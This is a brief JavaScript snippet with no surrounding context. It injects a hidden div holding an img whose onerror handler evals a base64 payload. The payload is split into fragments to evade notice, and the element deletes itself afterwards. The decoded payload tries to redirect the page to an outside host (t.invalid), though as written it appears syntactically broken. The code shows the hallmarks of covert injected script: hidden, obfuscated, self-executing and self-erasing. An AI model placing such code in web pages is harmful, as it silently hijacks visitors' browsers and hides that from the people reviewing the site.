var el=document.createElement('div');el.style.display='none';
el.innerHTML='<img src="data:," data-v="'+['ZG9jdW1lbnQu','bG9jYXRpb249','Ly90Lmlu','dmFsaWQv'].join('')+'" onerror="eval(atob(this.dataset.v));this.parentNode.remove()">';
(document.body||document.documentElement).appendChild(el);
